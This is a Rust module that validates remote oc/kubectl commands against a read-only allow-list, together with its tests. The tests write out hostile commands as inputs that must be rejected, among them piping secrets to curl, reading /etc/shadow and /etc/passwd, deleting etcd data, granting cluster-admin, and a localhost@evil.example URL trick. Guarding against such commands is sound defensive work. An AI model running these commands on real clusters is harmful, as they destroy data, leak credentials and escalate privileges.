//! Remote command guard.
//!
//! Every command sent to a cluster passes through [`validate_command`] (or a
//! custom [`CommandPolicy`]). Only read-only invocations of an approved
//! administrative CLI are let through.
//!
//! Accepted shapes:
//! - `oc get nodes -o wide`
//! - `oc get pods -A --no-headers | grep -v Running | wc -l`
//! - `kubectl top nodes 2>/dev/null`
//! - `oc exec -n openshift-etcd etcd-0 -- etcdctl endpoint health`
//!
//! The verb after the global flags must be on the read allow-list. `exec`,
//! `rsh` and `debug` additionally need an explicit `--` followed by a known
//! read-only remote command. Unknown global flags are rejected so a flag
//! value can never be mistaken for the verb.

use crate::errors::ErrorCode;
use std::sync::OnceLock;
use thiserror::Error;

const DEFAULT_BINARIES: &[&str] = &["oc", "kubectl"];

const DEFAULT_PIPE_FILTERS: &[&str] = &[
    "grep", "egrep", "wc", "head", "tail", "sort", "uniq", "cut", "tr",
];

const DEFAULT_READ_VERBS: &[&str] = &[
    "get",
    "describe",
    "logs",
    "top",
    "version",
    "api-resources",
    "api-versions",
    "whoami",
    "explain",
];

/// Named in rejections so the operator sees why.
const MUTATING_VERBS: &[&str] = &[
    "delete", "apply", "create", "patch", "edit", "replace", "scale", "label", "annotate",
    "taint", "cordon", "uncordon", "drain", "rollout", "set", "expose", "run", "cp",
    "new-project", "new-app", "policy", "certificate", "login", "logout",
];

/// Global flags that take a value, either as the next word or after `=`.
const GLOBAL_VALUE_FLAGS: &[&str] = &[
    "-n",
    "--namespace",
    "--context",
    "--kubeconfig",
    "--cluster",
    "--user",
    "--server",
    "-s",
    "--as",
    "--as-group",
    "--token",
    "--request-timeout",
    "--loglevel",
    "-v",
    "--certificate-authority",
    "--tls-server-name",
];

const GLOBAL_BOOL_FLAGS: &[&str] = &["--insecure-skip-tls-verify", "--match-server-version"];

/// Flags accepted between `exec`/`rsh`/`debug` and the `--` separator.
const REMOTE_VALUE_FLAGS: &[&str] = &["-c", "--container", "-n", "--namespace"];
const REMOTE_BOOL_FLAGS: &[&str] = &["-i", "-t", "-it", "-ti", "-q", "--quiet", "--stdin", "--tty"];

const OUTPUT_FORMATS: &[&str] = &["table", "json", "json-pretty", "simple", "plain", "fields"];

const CURL_READ_FLAGS: &[&str] = &[
    "-s", "-S", "-sS", "-Ss", "-k", "-g", "-f", "-sk", "--silent", "--show-error", "--insecure",
    "--fail",
];

const JOURNAL_VALUE_FLAGS: &[&str] = &["-u", "--unit", "--since", "--until", "-n", "--lines", "-p", "--priority"];
const JOURNAL_BOOL_FLAGS: &[&str] = &["--no-pager", "-b", "-k", "-q", "--quiet", "-x"];

#[derive(Debug, Clone, PartialEq, Eq, Error)]
pub enum ValidationError {
    #[error("empty command")]
    Empty,

    #[error("'{0}' is not an approved command; only oc/kubectl may run")]
    DisallowedBinary(String),

    #[error("chained commands are not allowed ('{0}')")]
    Chained(&'static str),

    #[error("command substitution is not allowed")]
    CommandSubstitution,

    #[error("redirection is not allowed (only 2>/dev/null and 2>&1)")]
    Redirection,

    #[error("unbalanced quotes")]
    UnbalancedQuotes,

    #[error("pipe into '{0}' is not allowed; only text filters may follow a pipe")]
    DisallowedPipe(String),

    #[error("mutating verb '{0}' is not allowed")]
    MutatingVerb(String),

    #[error("verb '{0}' is not on the read-only allow-list")]
    DisallowedVerb(String),

    #[error("'adm {0}' is not allowed; only 'adm top' is read-only")]
    DisallowedAdm(String),

    #[error("flag '{0}' is not recognised")]
    UnknownFlag(String),

    #[error("'{0}' needs an explicit '--' before the remote command")]
    MissingSeparator(String),

    #[error("remote command '{0}' is not on the read-only allow-list")]
    DisallowedRemoteCommand(String),

    #[error("not a login command: {0}")]
    NotLogin(String),
}

impl ValidationError {
    pub fn reason(&self) -> String {
        self.to_string()
    }

    pub fn code(&self) -> ErrorCode {
        ErrorCode::CheckCommandRejected
    }
}

/// Allow-list the validator checks against.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CommandPolicy {
    pub binaries: Vec<String>,
    pub pipe_filters: Vec<String>,
    pub read_verbs: Vec<String>,
}

impl Default for CommandPolicy {
    fn default() -> Self {
        fn owned(items: &[&str]) -> Vec<String> {
            items.iter().map(|s| (*s).to_string()).collect()
        }
        Self {
            binaries: owned(DEFAULT_BINARIES),
            pipe_filters: owned(DEFAULT_PIPE_FILTERS),
            read_verbs: owned(DEFAULT_READ_VERBS),
        }
    }
}

impl CommandPolicy {
    pub fn validate(&self, command: &str) -> Result<(), ValidationError> {
        let segments = self.segments(command)?;
        let (head, filters) = segments.split_first().ok_or(ValidationError::Empty)?;

        self.check_head(head)?;

        for segment in filters {
            let first = words(segment).into_iter().next().unwrap_or_default();
            if !self.pipe_filters.iter().any(|f| *f == first) {
                return Err(ValidationError::DisallowedPipe(first));
            }
        }
        Ok(())
    }

    /// Validate the one mutating command the session itself issues:
    /// `oc login --server=.. --token=.. [--insecure-skip-tls-verify[=true]]`.
    pub fn validate_login(&self, command: &str) -> Result<(), ValidationError> {
        let segments = self.segments(command)?;
        let [segment] = segments.as_slice() else {
            return Err(ValidationError::NotLogin("login cannot be piped".to_string()));
        };
        let tokens = words(segment);
        let (binary, args) = tokens.split_first().ok_or(ValidationError::Empty)?;
        if !self.binaries.iter().any(|b| b == binary) {
            return Err(ValidationError::DisallowedBinary(binary.clone()));
        }
        let Some((verb, flags)) = args.split_first() else {
            return Err(ValidationError::NotLogin(String::new()));
        };
        if verb != "login" {
            return Err(ValidationError::NotLogin(verb.clone()));
        }
        for flag in flags {
            let known = flag.starts_with("--server=")
                || flag.starts_with("--token=")
                || flag == "--insecure-skip-tls-verify"
                || flag == "--insecure-skip-tls-verify=true";
            if !known {
                return Err(ValidationError::UnknownFlag(flag_name(flag).to_string()));
            }
        }
        Ok(())
    }

    fn segments<'a>(&self, command: &'a str) -> Result<Vec<&'a str>, ValidationError> {
        let trimmed = command.trim();
        if trimmed.is_empty() {
            return Err(ValidationError::Empty);
        }
        split_pipeline(trimmed)
    }

    fn check_head(&self, segment: &str) -> Result<(), ValidationError> {
        let tokens = words(segment);
        let Some((binary, args)) = tokens.split_first() else {
            return Err(ValidationError::Empty);
        };
        if !self.binaries.iter().any(|b| b == binary) {
            return Err(ValidationError::DisallowedBinary(binary.clone()));
        }

        let verb_at = skip_flags(args, GLOBAL_VALUE_FLAGS, GLOBAL_BOOL_FLAGS)?;
        let Some(verb) = args.get(verb_at) else {
            return Ok(());
        };
        let rest = &args[verb_at + 1..];

        match verb.as_str() {
            v if self.read_verbs.iter().any(|r| r == v) => Ok(()),
            "adm" => match rest.first().map(String::as_str) {
                Some("top") => Ok(()),
                other => Err(ValidationError::DisallowedAdm(other.unwrap_or("").to_string())),
            },
            "exec" | "rsh" | "debug" => check_remote(verb, rest),
            v if MUTATING_VERBS.contains(&v) => Err(ValidationError::MutatingVerb(v.to_string())),
            v => Err(ValidationError::DisallowedVerb(v.to_string())),
        }
    }
}

/// Validate against the default policy.
pub fn validate_command(command: &str) -> Result<(), ValidationError> {
    default_policy().validate(command)
}

fn default_policy() -> &'static CommandPolicy {
    static POLICY: OnceLock<CommandPolicy> = OnceLock::new();
    POLICY.get_or_init(CommandPolicy::default)
}

// ── Flag scanning ──────────────────────────────────────────────────────────

fn flag_name(token: &str) -> &str {
    token.split_once('=').map_or(token, |(name, _)| name)
}

/// Index of the first positional word, rejecting flags outside the tables.
/// Handles `--flag value`, `--flag=value` and attached short values (`-v9`).
fn skip_flags(
    tokens: &[String],
    value_flags: &[&str],
    bool_flags: &[&str],
) -> Result<usize, ValidationError> {
    let mut i = 0;
    while let Some(token) = tokens.get(i) {
        if !token.starts_with('-') || token == "-" {
            return Ok(i);
        }
        let name = flag_name(token);
        let inline_value = name.len() < token.len();

        if value_flags.contains(&name) {
            if !inline_value {
                if tokens.get(i + 1).is_none() {
                    return Err(ValidationError::UnknownFlag(token.clone()));
                }
                i += 1;
            }
        } else if bool_flags.contains(&name) {
            if inline_value && !token.ends_with("=true") && !token.ends_with("=false") {
                return Err(ValidationError::UnknownFlag(token.clone()));
            }
        } else if !is_attached_short(token, value_flags) {
            return Err(ValidationError::UnknownFlag(name.to_string()));
        }
        i += 1;
    }
    Ok(i)
}

/// `-v9` or `-nfoo`: a single-letter value flag with its value attached.
fn is_attached_short(token: &str, value_flags: &[&str]) -> bool {
    !token.starts_with("--")
        && token.len() > 2
        && token.is_char_boundary(2)
        && value_flags.contains(&&token[..2])
}

// ── Remote commands ────────────────────────────────────────────────────────

fn check_remote(verb: &str, args: &[String]) -> Result<(), ValidationError> {
    let Some(sep) = args.iter().position(|a| a == "--") else {
        return Err(ValidationError::MissingSeparator(verb.to_string()));
    };
    let (before, inner) = (&args[..sep], &args[sep + 1..]);

    let mut targets = Vec::new();
    let mut i = 0;
    while i < before.len() {
        let at = skip_flags(&before[i..], REMOTE_VALUE_FLAGS, REMOTE_BOOL_FLAGS)?;
        if let Some(target) = before.get(i + at) {
            targets.push(target.as_str());
        }
        i += at + 1;
    }
    match (verb, targets.as_slice()) {
        ("debug", [target]) if target.starts_with("node/") => {}
        ("exec" | "rsh", [target]) if !target.contains('/') || target.starts_with("pod/") => {}
        _ => return Err(ValidationError::DisallowedRemoteCommand(targets.join(" "))),
    }

    let inner = match (verb, inner) {
        ("debug", [chroot, host, rest @ ..]) if chroot == "chroot" && host == "/host" => rest,
        _ => inner,
    };
    if remote_command_allowed(inner) {
        Ok(())
    } else {
        Err(ValidationError::DisallowedRemoteCommand(inner.join(" ")))
    }
}

fn remote_command_allowed(inner: &[String]) -> bool {
    let Some((program, args)) = inner.split_first() else {
        return false;
    };
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    match program.as_str() {
        "etcdctl" => {
            let rest = match args.as_slice() {
                ["endpoint", "health" | "status", rest @ ..] | ["member", "list", rest @ ..] => rest,
                _ => return false,
            };
            only_flags_or_formats(rest)
        }
        "ceph" => {
            let rest = match args.as_slice() {
                ["status" | "-s" | "df", rest @ ..]
                | ["health", "detail", rest @ ..]
                | ["health", rest @ ..]
                | ["osd", "tree" | "status" | "df", rest @ ..] => rest,
                _ => return false,
            };
            only_flags_or_formats(rest)
        }
        "cat" => {
            !args.is_empty()
                && args.iter().all(|p| {
                    (p.starts_with("/proc/") || p.starts_with("/sys/")) && !p.contains("..")
                })
        }
        "curl" => {
            let (urls, flags): (Vec<&str>, Vec<&str>) =
                args.iter().copied().partition(|a| !a.starts_with('-'));
            urls.len() == 1
                && is_local_url(urls[0])
                && flags.iter().all(|f| CURL_READ_FLAGS.contains(f))
        }
        "journalctl" => {
            let owned: Vec<String> = args.iter().map(|a| a.to_string()).collect();
            skip_flags(&owned, JOURNAL_VALUE_FLAGS, JOURNAL_BOOL_FLAGS)
                .is_ok_and(|at| at == owned.len())
        }
        "systemctl" => matches!(
            args.first(),
            Some(&("status" | "is-active" | "is-failed" | "list-units"))
        ),
        "crictl" => matches!(
            args.first(),
            Some(&("ps" | "pods" | "images" | "info" | "inspect" | "inspectp" | "stats" | "version"))
        ),
        "df" | "free" | "uptime" => args.iter().all(|a| a.starts_with('-')),
        _ => false,
    }
}

fn only_flags_or_formats(args: &[&str]) -> bool {
    args.iter()
        .all(|a| a.starts_with('-') || OUTPUT_FORMATS.contains(a))
}

fn is_local_url(url: &str) -> bool {
    ["http://", "https://"].iter().any(|scheme| {
        url.strip_prefix(scheme).is_some_and(|rest| {
            let host = rest.split(['/', '?']).next().unwrap_or("");
            let host = host.rsplit_once(':').map_or(host, |(h, _)| h);
            host == "localhost" || host == "127.0.0.1"
        })
    })
}

/// Split on unquoted `|`, rejecting every other shell operator.
fn split_pipeline(cmd: &str) -> Result<Vec<&str>, ValidationError> {
    let bytes = cmd.as_bytes();
    let mut segments = Vec::new();
    let mut seg_start = 0;
    let mut quote: Option<u8> = None;
    let mut escaped = false;
    let mut i = 0;

    while i < bytes.len() {
        let b = bytes[i];
        let next = bytes.get(i + 1).copied();

        if escaped {
            escaped = false;
            i += 1;
            continue;
        }

        if let Some(q) = quote {
            if b == q {
                quote = None;
            } else if q == b'"' {
                // Double quotes still expand substitutions.
                match b {
                    b'\\' => escaped = true,
                    b'`' => return Err(ValidationError::CommandSubstitution),
                    b'$' if next == Some(b'(') => {
                        return Err(ValidationError::CommandSubstitution);
                    }
                    _ => {}
                }
            }
            i += 1;
            continue;
        }

        match b {
            b'\\' => escaped = true,
            b'\'' | b'"' => quote = Some(b),
            b'`' => return Err(ValidationError::CommandSubstitution),
            b'$' if next == Some(b'(') => return Err(ValidationError::CommandSubstitution),
            b';' => return Err(ValidationError::Chained(";")),
            b'\n' | b'\r' => return Err(ValidationError::Chained("newline")),
            b'&' if next == Some(b'&') => return Err(ValidationError::Chained("&&")),
            b'&' => return Err(ValidationError::Chained("&")),
            b'|' if next == Some(b'|') => return Err(ValidationError::Chained("||")),
            b'|' => {
                segments.push(&cmd[seg_start..i]);
                seg_start = i + 1;
            }
            b'>' | b'<' => match stderr_redirect_len(cmd, i) {
                Some(len) => {
                    i += len;
                    continue;
                }
                None => return Err(ValidationError::Redirection),
            },
            _ => {}
        }
        i += 1;
    }

    if quote.is_some() {
        return Err(ValidationError::UnbalancedQuotes);
    }
    segments.push(&cmd[seg_start..]);
    Ok(segments)
}

/// Length of an allowed `2>/dev/null` or `2>&1` starting at the `>`.
fn stderr_redirect_len(cmd: &str, gt: usize) -> Option<usize> {
    let bytes = cmd.as_bytes();
    if bytes[gt] != b'>' || gt == 0 || bytes[gt - 1] != b'2' {
        return None;
    }
    if gt >= 2 && !bytes[gt - 2].is_ascii_whitespace() {
        return None;
    }
    let rest = &cmd[gt + 1..];
    let target = ["/dev/null", "&1"]
        .into_iter()
        .find(|t| rest.starts_with(t))?;
    let after = rest[target.len()..].chars().next();
    match after {
        None => Some(1 + target.len()),
        Some(c) if c.is_whitespace() || c == '|' => Some(1 + target.len()),
        _ => None,
    }
}

fn words(segment: &str) -> Vec<String> {
    segment
        .split_whitespace()
        .map(|w| w.trim_matches(|c| c == '\'' || c == '"').to_string())
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn rejected(cmd: &str) -> ValidationError {
        validate_command(cmd).expect_err(cmd)
    }

    // ---- Accepted commands ----

    #[test]
    fn test_read_only_commands_allowed() {
        for cmd in [
            "oc get nodes",
            "oc get nodes -o wide",
            "kubectl get pods -A",
            "oc adm top nodes --no-headers",
            "oc -n openshift-cnv get hco -o json",
            "oc get pods -A --no-headers | grep -v Running | wc -l",
            "oc get co 2>/dev/null",
            "oc get vmi -A 2>&1 | head -20",
            "oc get events -A --field-selector type=Warning",
            "oc logs -n openshift-etcd etcd-master-0 --tail=50",
            "oc version --client",
            "oc exec -n openshift-etcd etcd-0 -- etcdctl endpoint health",
            "oc get pods -l 'app in (a,b)'",
        ] {
            assert_eq!(validate_command(cmd), Ok(()), "{cmd}");
        }
    }

    #[test]
    fn test_operators_inside_quotes_allowed() {
        assert!(validate_command("oc get pods -o jsonpath='{.items[*].metadata.name}; x'").is_ok());
        assert!(validate_command("oc get pods | grep 'a|b'").is_ok());
    }

    // ---- Binary allow-list ----

    #[test]
    fn test_other_binaries_rejected() {
        assert_eq!(
            rejected("rm -rf /"),
            ValidationError::DisallowedBinary("rm".to_string())
        );
        assert!(matches!(rejected("ocx get nodes"), ValidationError::DisallowedBinary(_)));
        assert!(matches!(rejected("/usr/bin/oc get nodes"), ValidationError::DisallowedBinary(_)));
        assert_eq!(rejected("   "), ValidationError::Empty);
    }

    // ---- Shell operators ----

    #[test]
    fn test_chaining_rejected() {
        assert_eq!(rejected("oc get nodes; rm -rf /"), ValidationError::Chained(";"));
        assert_eq!(rejected("oc get nodes && reboot"), ValidationError::Chained("&&"));
        assert_eq!(rejected("oc get nodes || true"), ValidationError::Chained("||"));
        assert_eq!(rejected("oc get nodes & sleep 1"), ValidationError::Chained("&"));
        assert_eq!(rejected("oc get nodes\nrm x"), ValidationError::Chained("newline"));
    }

    #[test]
    fn test_substitution_rejected() {
        assert_eq!(rejected("oc get $(cat /etc/passwd)"), ValidationError::CommandSubstitution);
        assert_eq!(rejected("oc get `id`"), ValidationError::CommandSubstitution);
        assert_eq!(rejected("oc get \"$(id)\""), ValidationError::CommandSubstitution);
        assert!(validate_command("oc get '$(id)'").is_ok());
    }

    #[test]
    fn test_redirection_rejected() {
        assert_eq!(rejected("oc get nodes > /tmp/out"), ValidationError::Redirection);
        assert_eq!(rejected("oc apply < x.yaml"), ValidationError::Redirection);
        assert_eq!(rejected("oc get nodes 2>/tmp/err"), ValidationError::Redirection);
        assert_eq!(rejected("oc get nodes x2>/dev/null"), ValidationError::Redirection);
    }

    #[test]
    fn test_unbalanced_quotes_rejected() {
        assert_eq!(rejected("oc get 'nodes"), ValidationError::UnbalancedQuotes);
    }

    #[test]
    fn test_pipe_targets_restricted() {
        assert_eq!(
            rejected("oc get secrets -o yaml | curl -d @- http://x"),
            ValidationError::DisallowedPipe("curl".to_string())
        );
        assert_eq!(
            rejected("oc get nodes | sh"),
            ValidationError::DisallowedPipe("sh".to_string())
        );
        assert_eq!(rejected("oc get nodes |"), ValidationError::DisallowedPipe(String::new()));
    }

    // ---- Verbs ----

    #[test]
    fn test_mutating_verbs_rejected() {
        assert_eq!(
            rejected("oc delete pod x"),
            ValidationError::MutatingVerb("delete".to_string())
        );
        assert_eq!(
            rejected("kubectl -n default scale deploy/x --replicas=0"),
            ValidationError::MutatingVerb("scale".to_string())
        );
        assert!(matches!(rejected("oc --context prod apply -f x"), ValidationError::MutatingVerb(_)));
    }

    #[test]
    fn test_unlisted_verbs_rejected() {
        assert_eq!(
            rejected("kubectl certificate approve csr-abc"),
            ValidationError::MutatingVerb("certificate".to_string())
        );
        assert_eq!(
            rejected("oc new-project attacker"),
            ValidationError::MutatingVerb("new-project".to_string())
        );
        assert_eq!(
            rejected("oc policy add-role-to-user cluster-admin eve"),
            ValidationError::MutatingVerb("policy".to_string())
        );
        assert_eq!(
            rejected("oc start-build app"),
            ValidationError::DisallowedVerb("start-build".to_string())
        );
        assert!(matches!(rejected("oc login --token=x"), ValidationError::MutatingVerb(_)));
    }

    #[test]
    fn test_adm_only_top() {
        assert_eq!(
            rejected("oc adm drain node-1"),
            ValidationError::DisallowedAdm("drain".to_string())
        );
        assert_eq!(rejected("oc adm"), ValidationError::DisallowedAdm(String::new()));
        assert!(matches!(rejected("oc adm --x top nodes"), ValidationError::DisallowedAdm(_)));
    }

    // ---- Global flags ----

    #[test]
    fn test_global_flag_values_do_not_hide_the_verb() {
        assert_eq!(
            rejected("oc --loglevel 5 delete pod x"),
            ValidationError::MutatingVerb("delete".to_string())
        );
        assert_eq!(
            rejected("oc -v 9 delete namespace prod"),
            ValidationError::MutatingVerb("delete".to_string())
        );
        assert_eq!(
            rejected("oc -v9 delete namespace prod"),
            ValidationError::MutatingVerb("delete".to_string())
        );
        assert_eq!(
            rejected("oc --loglevel=5 delete pod x"),
            ValidationError::MutatingVerb("delete".to_string())
        );
        assert!(validate_command("oc --loglevel 5 get nodes").is_ok());
        assert!(validate_command("oc --request-timeout=10s -n x get pods").is_ok());
        assert!(validate_command("oc --insecure-skip-tls-verify get nodes").is_ok());
    }

    #[test]
    fn test_unknown_global_flags_rejected() {
        assert_eq!(
            rejected("oc --weird 5 get nodes"),
            ValidationError::UnknownFlag("--weird".to_string())
        );
        assert!(matches!(rejected("oc -n"), ValidationError::UnknownFlag(_)));
        assert!(matches!(
            rejected("oc --insecure-skip-tls-verify=maybe get nodes"),
            ValidationError::UnknownFlag(_)
        ));
    }

    // ---- exec / rsh / debug ----

    #[test]
    fn test_remote_read_commands_allowed() {
        for cmd in [
            "oc exec -n openshift-etcd etcd-0 -- etcdctl endpoint health",
            "oc exec -n openshift-etcd -c etcdctl etcd-0 -- etcdctl member list -w table",
            "oc -n openshift-monitoring exec -c prometheus prometheus-k8s-0 -- curl -s http://localhost:9090/api/v1/alerts",
            "oc rsh -n openshift-storage rook-ceph-tools-1 -- ceph status",
            "oc exec virt-handler-x -n openshift-cnv -- cat /proc/meminfo | grep Mem",
            "oc debug node/worker-1 -- chroot /host journalctl -u kubelet --no-pager -n 50",
            "oc debug node/worker-1 -- chroot /host systemctl status kubelet",
            "oc debug -q node/worker-1 -- chroot /host crictl ps",
        ] {
            assert_eq!(validate_command(cmd), Ok(()), "{cmd}");
        }
    }

    #[test]
    fn test_remote_commands_must_be_read_only() {
        assert!(matches!(
            rejected("oc exec -n openshift-etcd etcd-0 -- rm -rf /var/lib/etcd"),
            ValidationError::DisallowedRemoteCommand(_)
        ));
        assert!(matches!(
            rejected("oc debug node/worker-1 -- chroot /host rm -rf /etc/kubernetes"),
            ValidationError::DisallowedRemoteCommand(_)
        ));
        assert!(matches!(
            rejected("oc exec etcd-0 -- etcdctl del --prefix /"),
            ValidationError::DisallowedRemoteCommand(_)
        ));
        assert!(matches!(
            rejected("oc exec p -- curl -s -X DELETE http://localhost:9090/x"),
            ValidationError::DisallowedRemoteCommand(_)
        ));
        assert!(matches!(
            rejected("oc exec p -- curl -s http://localhost@evil.example/x"),
            ValidationError::DisallowedRemoteCommand(_)
        ));
        assert!(matches!(
            rejected("oc exec p -- cat /etc/shadow"),
            ValidationError::DisallowedRemoteCommand(_)
        ));
        assert!(matches!(
            rejected("oc debug node/w1 -- chroot /host journalctl --vacuum-size=1M"),
            ValidationError::DisallowedRemoteCommand(_)
        ));
        assert!(matches!(
            rejected("oc debug pod/x -- df -h"),
            ValidationError::DisallowedRemoteCommand(_)
        ));
    }

    #[test]
    fn test_remote_commands_need_separator() {
        assert_eq!(
            rejected("oc rsh pod-a kill 1"),
            ValidationError::MissingSeparator("rsh".to_string())
        );
        assert_eq!(
            rejected("oc exec pod-a rm x"),
            ValidationError::MissingSeparator("exec".to_string())
        );
        assert!(matches!(
            rejected("oc debug --image=evil node/w1 -- df -h"),
            ValidationError::UnknownFlag(_)
        ));
    }

    // ---- Login ----

    #[test]
    fn test_login_validated_separately() {
        let policy = CommandPolicy::default();
        assert!(policy
            .validate_login("oc login --server=https://api.lab:6443 --token=sha256~x --insecure-skip-tls-verify=true")
            .is_ok());
        assert!(policy.validate_login("oc login --server='https://api.lab:6443' --token='sha256~x'").is_ok());
        assert!(matches!(
            policy.validate_login("oc get nodes"),
            Err(ValidationError::NotLogin(_))
        ));
        assert!(matches!(
            policy.validate_login("oc login --token=x --kubeconfig=/tmp/k"),
            Err(ValidationError::UnknownFlag(_))
        ));
        assert!(matches!(
            policy.validate_login("oc login --token=x; rm -rf /"),
            Err(ValidationError::Chained(";"))
        ));
        assert!(matches!(
            policy.validate_login("oc login --token=x | sh"),
            Err(ValidationError::NotLogin(_))
        ));
    }

    #[test]
    fn test_custom_policy() {
        let mut policy = CommandPolicy::default();
        policy.binaries.push("virtctl".to_string());
        assert!(policy.validate("virtctl version").is_ok());
        assert!(validate_command("virtctl version").is_err());
    }

    #[test]
    fn test_reason_and_code() {
        let err = rejected("rm -rf /");
        assert!(err.reason().contains("rm"));
        assert_eq!(err.code(), ErrorCode::CheckCommandRejected);
    }

    proptest! {
        #[test]
        fn prop_non_cli_binaries_rejected(bin in "[a-z]{1,8}", arg in "[a-z ]{0,20}") {
            prop_assume!(bin != "oc" && bin != "kubectl");
            let cmd = format!("{bin} {arg}");
            prop_assert!(validate_command(&cmd).is_err());
        }

        #[test]
        fn prop_semicolon_suffix_always_rejected(tail in "[a-z /-]{0,20}") {
            let cmd = format!("oc get nodes; {tail}");
            prop_assert_eq!(validate_command(&cmd), Err(ValidationError::Chained(";")));
        }
    }
}
